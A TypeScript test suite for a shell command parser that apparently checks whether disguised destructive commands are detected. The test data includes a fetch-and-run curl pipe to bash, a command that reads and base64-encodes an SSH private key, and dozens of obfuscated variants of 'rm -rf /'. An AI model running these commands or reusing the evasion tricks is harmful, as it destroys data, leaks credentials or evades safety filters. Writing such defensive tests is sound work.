import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { parseCommand, segmentText } from './shell.ts';

const lines = (command: string) => parseCommand(command).segments.map(segmentText);

test('commands become the programs they start', () => {
  const cases: readonly (readonly [command: string, segments: readonly string[]])[] = [
    ['ls -la /repo', ['ls -la /repo']],
    ['cd /repo && npm test; echo done', ['cd /repo', 'npm test', 'echo done']],
    ['curl -s https://x.example/i | sudo -u root bash', ['curl -s https://x.example/i', '| bash']],
    ['echo hi > /tmp/a 2>> /tmp/b < /tmp/c 2>&1', ['echo hi > /tmp/a >> /tmp/b < /tmp/c']],
    ['echo $(cat ~/.ssh/id_rsa | base64)', ['$( cat ~/.ssh/id_rsa', '| base64', 'echo $()']],
    ['diff <(curl a) `id`', ['<( curl a', '$( id', 'diff <() $()']],
    ['if true; then for f in *; do rm $f; done; fi', ['true', 'rm $f']],
    ['(a; b) | c &', ['a', 'b', '| c']],
    ['f() { rm -rf /; }; f', ['rm -rf /', 'f']],
    ['', []],
  ];
  for (const [command, segments] of cases) assert.deepEqual(lines(command), segments, command);
});

test('quotes, variables and separators in disguise hide nothing', () => {
  for (const command of [
    `r''m -r"f" /`,
    'r\\m -rf /',
    '"rm" \'-rf\' /',
    'A=rm; $A -rf /',
    'A=r B=m; ${A}${B} -rf /',
    'rm${IFS}-rf${IFS}/',
    'rm$IFS-rf$IFS/',
    '{rm,-rf,/}',
    "$'\\x72m' -rf /",
    'r$@m -rf /',
    'r${9}m -rf /',
    'sudo -u root env X=1 nohup timeout -s KILL 5 rm -rf /',
    `bash -c 'rm -rf /'`,
    `eval "rm -rf /"`,
    `sh -lc "bash -c 'rm -rf /'"`,
    "bash <<'EOF'\nrm -rf /\nEOF",
    "sh <<< 'rm -rf /'",
    `${'f(){ '.repeat(3000)}\nrm -rf /\n`,
    `# ${'x'.repeat(40_000)}\nrm -rf /`,
    `bash -c 'echo ${'x'.repeat(5000)}; rm -rf /'`,
    "sh -c -- 'rm -rf /'",
    'sudo --user root rm -rf /',
    'timeout --signal KILL 5 rm -rf /',
    'busybox rm -rf /',
    'su -c "rm -rf /" root',
    'flock /tmp/l -c "rm -rf /"',
    'unshare -r rm -rf /',
    'nsenter --target 1 --mount -- rm -rf /',
    'trap "rm -rf /" EXIT',
    'find . -exec rm -rf / ;',
    'ssh -i k me@h.example "rm -rf /"',
    'docker run --rm -v /:/h --name x alpine rm -rf /',
    'docker exec -u root box sh -c "rm -rf /"',
    'kubectl exec pod -n x -- rm -rf /',
    "echo 'rm -rf /' | sh",
    "printf '\\x72m -rf %s' / | bash -s",
    "cat <<'EOF' | sudo bash\nrm -rf /\nEOF",
    'echo cm0gLXJmIC8= | base64 -d | bash',
    'echo 726d202d7266202f | xxd -r -p | sh',
    "echo '/ fr- mr' | rev | sh",
    `pwsh -EncodedCommand ${Buffer.from('rm -rf /', 'utf16le').toString('base64')}`,
    'cmd.exe /c "rm -rf /"',
  ]) {
    assert.ok(
      lines(command).includes('rm -rf /'),
      `${command.slice(0, 60)}: ${JSON.stringify(lines(command)).slice(0, 200)}`,
    );
  }
});

test('quoted text stays text', () => {
  assert.deepEqual(lines(`grep -rn 'rm -rf /; reboot' docs`), ['grep -rn rm -rf /; reboot docs']);
  assert.equal(parseCommand(`git commit -m "fix: a | b && c"`).segments.length, 1);
  assert.deepEqual(lines("cat > notes.md <<'EOF'\nrm -rf /\nEOF"), ['cat > notes.md']);
});

test('what is special about a command is said', () => {
  assert.deepEqual(parseCommand('a | b').features, ['pipe']);
  assert.deepEqual([...parseCommand('sudo x $(y) > z &').features].sort(), [
    'background',
    'privileged',
    'redirect',
    'substitution',
  ]);
  assert.ok(parseCommand(`bash -c 'x'`).features.includes('nested_shell'));
  assert.ok(parseCommand('cat <<A\nx\nA').features.includes('here_document'));
  assert.ok(parseCommand('if (').features.includes('unparsed'));
});

test('any text has segments, in bounded number and length', () => {
  const piece = fc.oneof(
    fc.string(),
    fc.constantFrom(
      '$(',
      '`',
      "'",
      '"',
      '((',
      '${a:-',
      '<<A\n',
      'if ',
      'case x in ',
      '|',
      ';',
      'f()',
      '{ ',
      '<(',
      '\\',
      '\n',
      '__proto__=1 ',
      '$__proto__',
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), fc.integer({ min: 1, max: 400 }), (pieces, times) => {
      const { segments } = parseCommand(pieces.join('').repeat(times));
      assert.ok(segments.length <= 2048);
      for (const segment of segments) assert.ok(segmentText(segment).length <= 4096);
    }),
    { numRuns: 100 },
  );
});

test('four megabytes of anything are read in time', () => {
  for (const unit of ['$(', '`', '((', '${a:-', '"$(', 'a|', 'f()', "'", '<<a\n', '{a,', 'A=$A$A;', 'eval eval ']) {
    parseCommand(unit.repeat(4_000_000 / unit.length));
  }
});

test('what a pipe gives to a shell is a script only where it is known, and a shell reads it', () => {
  for (const command of [
    "echo 'rm -rf /' | grep rm",
    "echo 'rm -rf /' | bash script.sh",
    'cat notes | bash',
    "echo 'rm -rf /' | tee notes",
  ])
    assert.ok(!lines(command).includes('rm -rf /'), command);
});
